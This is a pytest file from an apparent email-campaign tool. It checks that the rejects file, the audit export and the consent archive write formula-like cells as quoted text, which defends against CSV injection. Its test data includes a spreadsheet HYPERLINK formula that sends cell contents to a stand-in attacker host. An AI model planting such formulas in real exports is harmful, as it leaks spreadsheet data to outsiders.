"""Every CSV the project writes, read back: a cell a spreadsheet would run as a formula
comes out as text (OWASP CSV injection; mailer/core/spreadsheet.py)."""

from __future__ import annotations

import argparse
import csv
import io
import zipfile
from pathlib import Path

import asyncpg
import pytest

from mailer.commands import compliance as compliance_cmd
from mailer.compliance import archive
from mailer.contacts import imports
from mailer.contacts.csvfile import Defaults
from mailer.contacts.store import ImportRefused
from mailer.core.addresses import address_hash
from mailer.core.settings import Settings
from mailer.demo.stores import Stores
from tests.engine_setup import NOW, add_contacts, engine_for, sample_campaign, settings_for
from tests.smtp_servers import smtp_server

SLUG = "service-reminder-2024-10"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def test_the_rejects_file_writes_a_formula_from_the_imported_file_as_text(
    stores: Stores, tmp_path: Path
) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text(
        f'email,name\r\nnot-an-address,"{FORMULA.replace(chr(34), chr(34) * 2)}"\r\n'
        "@evil,+1 514 555 0100\r\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportRefused) as refused:
        await imports.import_contacts(
            stores.contacts, path, Defaults(), default_locale="en", skip_invalid=False
        )
    assert refused.value.rejects_file is not None
    with refused.value.rejects_file.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [row[2:] for row in rows[1:]] == [
        ["not-an-address", "'" + FORMULA],
        ["'@evil", "'+1 514 555 0100"],
    ]


async def _contact_with_source(conn: asyncpg.Connection, email: str, source: str) -> None:
    contact = await conn.fetchval(
        "INSERT INTO contacts (email, email_hash, name, locale, attributes, last_activity_at) "
        "VALUES ($1, $2, $3, 'en', "
        """'{"vehicle": "Mazda 3", "next_service": "2026-11-02", "mileage": 9000}', now()) """
        "RETURNING id",
        email,
        address_hash(email),
        "-Eve",
    )
    await conn.execute(
        "INSERT INTO consents (contact_id, channel, action, kind, source, obtained_at) "
        "VALUES ($1, 'email', 'grant', 'express', $2, $3)",
        contact,
        source,
        NOW.replace(year=NOW.year - 1),
    )


async def test_the_audit_and_archive_exports_write_a_stored_formula_as_text(
    stores: Stores,
    conn: asyncpg.Connection,
    tmp_path: Path,
    settings: Settings,
    printed: io.StringIO,
) -> None:
    # A consent source typed into a web form by an outsider reaches both exports.
    await add_contacts(conn, 1)
    await _contact_with_source(conn, "eve@example.com", FORMULA)
    campaign = await sample_campaign(stores)
    with smtp_server() as (port, _sink):
        await engine_for(stores, settings_for(port)).run(until_idle=True)

    out = tmp_path / "audit.zip"
    args = argparse.Namespace(campaign=SLUG, contact=None, out=str(out))
    assert await compliance_cmd.audit_export(args, settings) == 0
    with zipfile.ZipFile(out) as bundle:
        text = io.TextIOWrapper(bundle.open(f"{SLUG}-audit.csv"), "utf-8", newline="")
        audited = {r["email"]: r for r in csv.DictReader(text)}
    assert audited["eve@example.com"]["consent_source"] == "'" + FORMULA
    assert audited["person0@example.com"]["consent_source"] == "Salon E-commerce Paris"

    exported = tmp_path / "archive.zip"
    await archive.export_campaign(stores.compliance, campaign, "c", exported)
    with zipfile.ZipFile(exported) as bundle:
        text = io.TextIOWrapper(bundle.open("c-consents.csv"), "utf-8", newline="")
        archived = {r["email"]: r for r in csv.DictReader(text)}
    assert archived["eve@example.com"]["consent_source"] == "'" + FORMULA
    assert archived["person0@example.com"]["consent_source"] == "Salon E-commerce Paris"
